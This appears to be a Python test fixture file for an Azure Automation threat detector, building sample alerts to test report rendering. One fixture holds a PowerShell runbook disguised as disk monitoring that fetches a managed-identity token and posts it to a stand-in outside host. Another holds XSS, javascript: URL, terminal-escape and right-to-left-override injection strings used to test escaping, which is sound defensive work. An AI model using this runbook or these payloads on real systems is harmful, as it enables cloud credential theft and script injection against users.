"""Alerts for the tests of the report: one as an attack gives it, one whose every text is hostile."""

from datetime import UTC, datetime, timedelta

from detectors.model import Alert, AlertKind, Code, Evidence, Fact, FocusLine, Severity, Source, SummaryItem

STARTED = datetime(2026, 5, 4, 3, 2, 1, tzinfo=UTC)
SUBSCRIPTION = "11111111-2222-3333-4444-555555555555"
ACCOUNT = (
    f"/subscriptions/{SUBSCRIPTION}/resourcegroups/rg-operations/providers/microsoft.automation"
    "/automationaccounts/aa-operations"
)

SCRIPT = """<#
    Collects disk usage of the file servers every morning.
#>
param([string] $Server = "fs01")

$headers = @{ "X-IDENTITY-HEADER" = $env:IDENTITY_HEADER }
$token = Invoke-RestMethod -Uri "$($env:IDENTITY_ENDPOINT)?resource=https://management.azure.com/" -Headers $headers
$body = @{ t = $token.access_token; h = $env:COMPUTERNAME } | ConvertTo-Json
Invoke-RestMethod -Method Post -Uri "https://collect.example.net/v1/disk" -Body $body
Write-Output "Disk usage collected."
"""

HOSTILE = (
    "<script>alert(1)</script> [bold red]x[/] [link=https://evil.example]y[/link] "
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J\x9b31m \u202egnp.exe\u202c \u2066a\u2069 \u200b"
    ' "><img src=x onerror=alert(1)> [a](javascript:alert(1)) :skull: \r\n\ud800 && {{ }} \u2028'
)

TRIAGE = """1. Ask **the caller** on another channel whether this was them.
2. Compare with the change calendar; see [the list](https://example.com/changes).

- `Get-AzAutomationJob` shows later runs
"""
RESPONSE = """1. Stop the watcher: `Stop-AzAutomationWatcher -Name NAME`.
2. Revoke the caller's sessions.
"""


def attack() -> Alert:
    """An alert with every part filled in."""
    return Alert(
        id="5d0c1f0e9a7b4c2d8e6f",
        kind=AlertKind.DETECTION,
        rule_id="0a1b2c3d-0000-4000-8000-000000000001",
        rule_name="Watcher task set up or started",
        rule_version="1.0.0",
        severity=Severity.HIGH,
        severity_reasons=(
            "The runbook asks the managed identity for a token by hand",
            "The same caller wrote the runbook 6 minutes earlier",
        ),
        title="Watcher Disk-Usage started",
        description="Identifies a watcher task being started, which runs a runbook again and again without a job log.",
        tactics=("Persistence",),
        techniques=("T1053",),
        tags=("AZT504",),
        source=Source.HUNT,
        workspace="99999999-2222-3333-4444-555555555555",
        event_time=STARTED,
        found_at=STARTED + timedelta(minutes=4, seconds=10),
        created_at=STARTED + timedelta(minutes=4, seconds=12),
        operation="MICROSOFT.AUTOMATION/AUTOMATIONACCOUNTS/WATCHERS/START/ACTION",
        outcome="Success",
        caller="anna.vendor@example.com",
        caller_ip="203.0.113.77",
        resource_id=f"{ACCOUNT}/watchers/disk-usage",
        subscription_id=SUBSCRIPTION,
        resource_group="rg-operations",
        account="aa-operations",
        identity={"CorrelationId": "c0ffee00-0000-4000-8000-000000000009"},
        facts=(Fact("Caller", "anna.vendor@example.com"), Fact("Watcher", "Disk-Usage"), Fact("Change", "started")),
        evidence=(
            Evidence(
                name="watchers",
                title="Watcher",
                facts=(
                    Fact("Name", "Disk-Usage"),
                    Fact("Script", "Disk-Usage"),
                    Fact("Runs every", "60 seconds"),
                    Fact("Runs on", "hybrid worker group hwg-fileservers"),
                ),
            ),
            Evidence(
                name="published_content",
                title="Published runbook",
                code=(
                    Code(
                        title="Disk-Usage (published)",
                        text=SCRIPT,
                        language="PowerShell",
                        sha256="ab" * 32,
                        size=len(SCRIPT),
                        focus=(
                            FocusLine(7, "asks the managed identity endpoint for a token by hand"),
                            FocusLine(9, "posts to a host that is not Microsoft's"),
                        ),
                    ),
                ),
            ),
            Evidence(
                name="draft_content",
                title="Draft",
                code=(
                    Code(
                        title="Disk-Usage (draft)",
                        text=SCRIPT,
                        language="PowerShell",
                        sha256="ab" * 32,
                        size=len(SCRIPT),
                        focus=(FocusLine(7, "asks the managed identity endpoint for a token by hand"),),
                    ),
                ),
            ),
            Evidence(name="job_output", title="Job output", missing="No job of this watcher has written output yet."),
            Evidence(name="webhooks", title="Webhooks"),
        ),
        triage=TRIAGE,
        response=RESPONSE,
        false_positives=("A vendor's documented monitoring watcher.",),
        references=("https://microsoft.github.io/Azure-Threat-Research-Matrix/Persistence/AZT504/AZT504/",),
        query="AzureActivity\n| where OperationNameValue =~ 'x'",
        portal_url="https://portal.azure.com/#resource/subscriptions/x",
        query_url="https://portal.azure.com/#blade/query",
        row={"CorrelationId": "c0ffee00-0000-4000-8000-000000000009", "Caller": "anna.vendor@example.com", "Level": ""},
    )


def hostile() -> Alert:
    """An alert whose every text was written by an attacker, the rule's own texts included."""
    long_line = "A" * 5000
    script = "\n".join([HOSTILE.replace("\r\n", ""), long_line, "漢字" * 200, *(["filler"] * 500), HOSTILE])
    return Alert(
        id="x' onmouseover='alert(1)",
        kind=AlertKind.DETECTION,
        rule_id=HOSTILE,
        rule_name=HOSTILE,
        rule_version=HOSTILE,
        severity=Severity.MEDIUM,
        severity_reasons=(HOSTILE,),
        title=HOSTILE,
        description=HOSTILE,
        tactics=(HOSTILE,),
        tags=(HOSTILE,),
        source=Source.STREAM,
        workspace=HOSTILE,
        event_time=STARTED,
        found_at=STARTED,
        created_at=STARTED,
        operation=HOSTILE,
        outcome=HOSTILE,
        caller=HOSTILE,
        caller_ip=HOSTILE,
        resource_id=f"{ACCOUNT}/runbooks/{HOSTILE}",
        subscription_id=HOSTILE,
        resource_group=HOSTILE,
        account=HOSTILE,
        facts=(Fact(HOSTILE, HOSTILE + "y"),),
        evidence=(
            Evidence(name="runbook", title=HOSTILE, facts=(Fact(HOSTILE, HOSTILE),)),
            Evidence(
                name="published_content",
                title="Published runbook",
                code=(
                    Code(
                        title=HOSTILE,
                        text=script,
                        language="PowerShell",
                        sha256="cd" * 32,
                        size=len(script),
                        truncated=True,
                        focus=(FocusLine(2, HOSTILE), FocusLine(504, "last line"), FocusLine(9999, "not there")),
                    ),
                    Code(title="Output", text="", sha256="00" * 32, size=0),
                ),
            ),
            Evidence(name="job", title=HOSTILE, missing=HOSTILE),
        ),
        items=(SummaryItem(match_id=HOSTILE, event_time=STARTED, operation=HOSTILE, caller=HOSTILE, resource=HOSTILE),),
        triage=f"1. {HOSTILE}\n2. ![x](https://evil.example/x.png) [y](javascript:alert(1)) [z](https://ok.example/)",
        response=HOSTILE,
        false_positives=(HOSTILE,),
        references=(
            "javascript:alert(1)",
            "http://plain.example/",
            'https://a.example/"><script>',
            "https://u@h.example/",
        ),
        query=HOSTILE,
        portal_url="javascript:alert(1)",
        query_url="https://portal.azure.com/#x'onclick='y",
        row={"Caller": HOSTILE, "Properties_d": {"entity": HOSTILE}},
    )


def health() -> Alert:
    """The detector's report on itself."""
    return Alert(
        id="health-1",
        kind=AlertKind.HEALTH,
        rule_id="detector-health",
        rule_name="Detector health",
        rule_version="1.0.0",
        severity=Severity.INFORMATIONAL,
        title="A rule keeps failing",
        description="The hunt of one rule has failed three times.",
        source=Source.DETECTOR,
        event_time=STARTED - timedelta(minutes=1),
        found_at=STARTED - timedelta(minutes=1),
        created_at=STARTED,
    )
